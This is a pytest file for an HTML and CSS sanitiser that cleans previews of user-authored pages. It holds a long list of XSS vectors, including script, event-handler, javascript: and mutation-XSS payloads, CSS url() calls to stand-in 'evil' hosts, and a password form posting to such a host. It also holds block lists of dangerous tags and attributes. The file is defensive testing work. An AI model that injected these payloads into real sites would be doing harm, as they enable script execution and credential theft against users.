"""Pages of strangers: nothing runs, and what authors and libraries draw stays."""

from __future__ import annotations

import io
import re
from html import unescape
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as parser

from haebom.render.css import declarations, sheet
from haebom.render.sanitise import _tamed_bundle, plain, sanitise, sanitise_meta

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><path d='M0 0'/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><use xlink:href='https://evil/x.svg#x'/></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg><image href='https://evil/x.png'/></svg>",
    "<svg><rect fill='url(https://evil/#x)'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvA&#9;ScRipt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='da&#10;ta:text/html,x'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src='https://evil'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<base href='https://evil/'>",
    "<meta http-equiv=refresh content='0;url=https://evil'>",
    "<link rel=stylesheet href='https://evil/x.css'>",
    "<form action='https://evil'><input name=password><button>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster='javascript:alert(1)'></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<div style='background:url(https://evil/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='margin-top:-500px'>x</div>",
    "<div style='--md-default-bg-color: red'>x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<style>@import url(https://evil/x.css);</style>",
    "<style>body{background:url(https://evil/x)}</style>",
    "<style>a{color:red}</style><style>}</style><img src=x onerror=alert(1)><style></style>",
    "<style>x{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
    "<div title='<style>a{font-family:\"x onclick=alert(1) y=\"}</style>'>x</div>",
    '<div title=\'<data class="haebom-kept" value="0"></data>\'>x</div><style>a{color:red}</style>',
    '<div id=\'__config\'>{"base": "https://evil"}</div>',
    "<div id='__search' class='md-overlay md-search'>x</div>",
    "<div data-md-component='search'>x</div>",
    "<img name='body' src=x>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- haebom/newest --><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>",
    "<table background='javascript:alert(1)'><td background=x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<p onclick=alert(1) onfocus=alert(1) autofocus tabindex=0>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src='https://evil'></portal><frameset><frame src='javascript:alert(1)'></frameset>",
]
"""Some of the ways that people have found; nothing of them may be left."""

DANGEROUS = re.compile(
    r"script|iframe|object|embed|base|meta|link|form|template|noscript|portal|frame"
)


def check(clean: str) -> None:
    """Whether a browser that reads this runs or fetches anything, or takes the theme's place."""
    tree = parser.fragment_fromstring(clean, create_parent="div")
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        assert not DANGEROUS.fullmatch(tag.rpartition("}")[2]), clean
        for name, value in element.attrib.items():
            name, squeezed = name.lower().rpartition("}")[2], re.sub(r"\s", "", value).lower()
            assert not name.startswith("on"), clean
            assert name not in ("srcdoc", "formaction", "action", "autofocus", "background"), clean
            assert not squeezed.startswith(("javascript:", "vbscript:")), clean
            assert not squeezed.startswith("data:") or squeezed.startswith("data:image/"), clean
            if name == "style":
                assert "url(" not in squeezed.replace("url(#", ""), clean
                assert not re.search(
                    r"position|(?:^|;)(?:top|left|z-index)|expression|--", squeezed
                )
            if name in ("id", "name"):
                assert not value.startswith("__"), clean
                assert name != "name" or tag in ("input", "details"), clean
            assert not name.startswith("data-md-"), clean
            assert "md-overlay" not in value, clean
        if tag == "style":
            text = element.text or ""
            assert text.startswith("@scope{"), clean
            assert not re.search(r"url\((?!#)|@import|position|<", text), clean


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_runs(vector: str) -> None:
    """A pull request's preview would run what a stranger wrote, with the rights of its domain."""
    for around in (
        "{}",
        "<p>x {} y</p>",
        "<table><tr><td>{}",
        "<svg>{}</svg>",
        "<div class='a'>{}",
    ):
        check(sanitise(around.replace("{}", vector)))


PIECES = st.sampled_from(
    [*VECTORS, "<style>", "</style>", "<svg>", "</svg>", "<math>", "</math>", "<!--", "-->", "<p ",
     "'", '"', ">", "<![CDATA[", "]]>", "<mtext>", "<title>", "</title>", "<desc>", "x", "&lt;",
     '<data class="haebom-kept" value="0"></data>']
)  # fmt: skip


@given(st.lists(PIECES, max_size=8))
def test_nothing_runs_however_it_is_put_together(pieces: list[str]) -> None:
    """Two harmless halves could make a whole that runs; and cleaning twice changes nothing more."""
    clean = sanitise("".join(pieces))
    check(clean)
    check(sanitise(clean))


# -- what stays ----------------------------------------------------------------------------------


def _shape(html: str) -> list[tuple[Any, ...]]:
    """Elements with their attributes and texts, without order of attributes."""
    tree = parser.fragment_fromstring(html, create_parent="div")
    return [
        (e.tag, sorted(e.attrib.items()), (e.text or "").strip(), (e.tail or "").strip())
        for e in tree.iter()
    ]


@pytest.mark.parametrize(
    "html",
    [
        "<p>글 <b>굵게</b> <a href='../x/#y' title='t'>링크</a> <code>x &lt; y</code></p>",
        "<h2 id='제목'>제목<a class='headerlink' href='#제목'>¶</a></h2>",
        "<div class='highlight'><pre><span></span><code><a id='__codelineno-0-1' name=''></a>"
        "<span class='kn'>import</span></code></pre></div>".replace(" name=''", ""),
        "<div class='tabbed-set tabbed-alternate' data-tabs='1:2'><input checked='checked'"
        " id='__tabbed_1_1' name='__tabbed_1' type='radio'><div class='tabbed-labels'>"
        "<label for='__tabbed_1_1'>A</label></div></div>".replace(" name='__tabbed_1'", ""),
        "<ul class='task-list'><li><label class='task-list-control'><input type='checkbox'"
        " disabled='' checked=''><span class='task-list-indicator'></span></label>x</li></ul>",
        "<details class='note' open=''><summary>요약</summary><p>본문</p></details>",
        "<sup id='fnref:1'><a class='footnote-ref' href='#fn:1'>1</a></sup>",
        "<span class='arithmatex'>\\(x^2\\)</span>",
        "<figure><img src='a.png' alt='그림' width='3' height='2' loading='lazy'></figure>",
        "<img alt='' src='data:image/png;base64,iVBORw0KGgo='>",
        "<a class='md-button md-button--primary' href='https://a.example'>x</a>",
        "<math display='block'><mfrac><mi>a</mi><mn>2</mn></mfrac></math>",
        "<div class='haebom-output' data-search-exclude='' id='label'><pre class='haebom-text'"
        " tabindex='0' role='group' aria-label='결과'>1</pre></div>",
        "<abbr title='설명'>HTML</abbr><kbd class='key-x'>X</kbd><mark>m</mark><del>d</del>",
        "<table border='1' class='dataframe'><thead><tr style='text-align: right'><th>a</th></tr>"
        "</thead><tbody><tr><td colspan='2'>1</td></tr></tbody></table>",
        "<video controls='' src='a.mp4' width='3'></video><audio controls='' src='a.mp3'></audio>",
        "<button type='button' class='haebom-x' aria-expanded='false'>x</button>",
        "<time datetime='2026-11-25'>어제</time><ruby>漢<rt>한</rt></ruby>",
    ],
)  # fmt: skip
def test_what_markdown_makes_stays(html: str) -> None:
    """Pages of honest authors would look broken in previews."""
    assert _shape(sanitise(html)) == _shape(html)


def test_tables_of_pandas() -> None:
    """Tables would lose their form, and coloured ones their colours."""
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame({"a": [1, -2], "글": ["x", "y"]})
    plain = sanitise(frame._repr_html_())
    assert 'class="dataframe"' in plain
    assert ".dataframe thead th{text-align: right}" in plain
    styled = frame.style.background_gradient(subset=["a"]).bar(subset=["a"]).set_caption("설명")
    html = styled.to_html(table_uuid="t")
    clean = sanitise(html)
    check(clean)
    for kept in ("#T_t_row0_col0{", "background-color: #023858", "linear-gradient(90deg", "설명"):
        assert kept in clean, kept
    table = re.compile(r"<table.*</table>", re.DOTALL)
    assert _shape(table.search(clean)[0]) == _shape(table.search(html)[0])  # type: ignore[index]


def test_drawings_of_matplotlib() -> None:
    """Drawings would lose their lines, their clipping, their letters or their images."""
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("agg")
    from matplotlib import pyplot

    figure, axes = pyplot.subplots(1, 2)
    axes[0].plot([1, 2, 1], label="x")
    axes[0].set_title(r"$\int x^2$")
    axes[0].legend()
    axes[1].imshow([[0, 1], [1, 0]])
    buffer = io.StringIO()
    figure.savefig(buffer, format="svg")
    pyplot.close(figure)
    drawing = buffer.getvalue()
    drawing = drawing[drawing.index("<svg") :]
    clean = sanitise(drawing)
    check(clean)
    for tag in ("path", "use", "clippath", "image", "g", "rect"):
        count = len(re.findall(rf"<{tag}\b", drawing, re.IGNORECASE))
        assert len(re.findall(rf"<{tag}\b", clean, re.IGNORECASE)) == count, tag
    wanted = {name: drawing.count(name) for name in ("style=", "clip-path=", "xlink:href=", " d=")}
    assert {name: clean.count(name) for name in wanted} == wanted
    assert "@scope{*{stroke-linejoin: round; stroke-linecap: butt}}" in clean
    assert clean.index("<style>") < clean.index("<svg")  # within, it would reach nothing


def test_marks_of_hosts_stay() -> None:
    """A page's lists of posts would be empty in previews, and excerpts would not end."""
    kept = "<p>a</p><!-- haebom/newest --><!-- more -->"
    assert sanitise(kept + "<!-- <b> --><!--x-->") == kept


# -- style sheets --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("css", "kept"),
    [
        ("color: red; position: fixed; TOP: 0", "color: red"),
        ("fill: #1f77b4; stroke-dasharray: 3.7,1.6; clip-path: url(#a)",
         "fill: #1f77b4; stroke-dasharray: 3.7,1.6; clip-path: url(#a)"),
        ("background: url('#a'), url(https://evil)", ""),
        ("color: rgb(1 2 3 / 50%); width: calc(1px + 2%)",
         "color: rgb(1 2 3 / 50%); width: calc(1px + 2%)"),
        ("margin: 0 -9px", ""), ("margin: 0 9px", "margin: 0 9px"), ("margin: calc(0px - 9px)", ""),
        ("color: \\72 ed; content: 'x'", "color: red"),
        ("behavior: url(#x); -moz-binding: url(#x)", ""),
        ("color: red !important", "color: red !important"), ("color: var(--x)", ""),
        ("font-family: 'A B', serif", 'font-family: "A B", serif'),
    ],
)  # fmt: skip
def test_declarations(css: str, kept: str) -> None:
    """A declaration would fetch something, or lie over the page; or an honest one would go."""
    assert declarations(css) == kept


def test_sheets_reach_no_farther_than_their_place() -> None:
    """The style of one output would change the whole page."""
    css = "@import 'x'; @font-face{src:url(x)} @media print{a{color:red}} a,b{color:red} c{top:0}"
    assert sheet(css) == "<style>@scope{a,b{color: red}}</style>"
    assert sheet("} body{color:red} a{") == ""
    assert sheet("a[x='<']{color:red}") == ""


# -- around the page -----------------------------------------------------------------------------


def test_front_matter_is_text() -> None:
    """Titles and tags go into templates as they are."""
    meta = {
        "title": "<img src=x onerror=alert(1)> R&D",
        "tags": ["a\" onmouseover='x", "글"],
        "date": 3,
        "links": [
            {"<b>x</b>": "javascript:alert(1)"},
            "JaVa\tscript:x",
            {"ok": "https://a.example"},
        ],
        "description": "JavaScript: 배열",
    }
    assert sanitise_meta(meta) == {
        "title": "‹img src=x onerror=alert(1)› R&D",
        "tags": ["a” onmouseover=’x", "글"],
        "date": 3,
        "links": [{"‹b›x‹/b›": ""}, "", {"ok": "https://a.example"}],
        "description": "JavaScript: 배열",
    }


@given(st.text(alphabet="<>\"'&;#ltgamp60x3c ", max_size=40))
def test_no_mark_comes_back(text: str) -> None:
    """Templates read entities before they put a text on the page."""
    found = plain(text)
    assert not set("<>\"'") & set(unescape(unescape(found)))


def test_what_needs_a_script_gives_way() -> None:
    """An interactive drawing would leave an empty place, though there is a picture of it."""
    picture = {"text/html": "<div></div><script>draw()</script>", "image/png": "iVBOR"}
    assert _tamed_bundle(picture) == {"image/png": "iVBOR"}
    written = {"text/html": "<b>x</b><script>x</script>", "text/plain": "<HTML object>"}
    assert _tamed_bundle(written)["text/html"] == "<b>x</b>"
    empty = {"text/html": "<div id='plot'> </div><script>x</script>", "text/plain": "Plot()"}
    assert _tamed_bundle(empty) == {"text/plain": "Plot()"}
    assert _tamed_bundle({"application/javascript": "x", "text/plain": "y"}) == {"text/plain": "y"}
    plotly = {"application/vnd.plotly.v1+json": {}, "text/html": "<p>x</p>"}
    assert _tamed_bundle(plotly) == {"text/html": "<p>x</p>"}
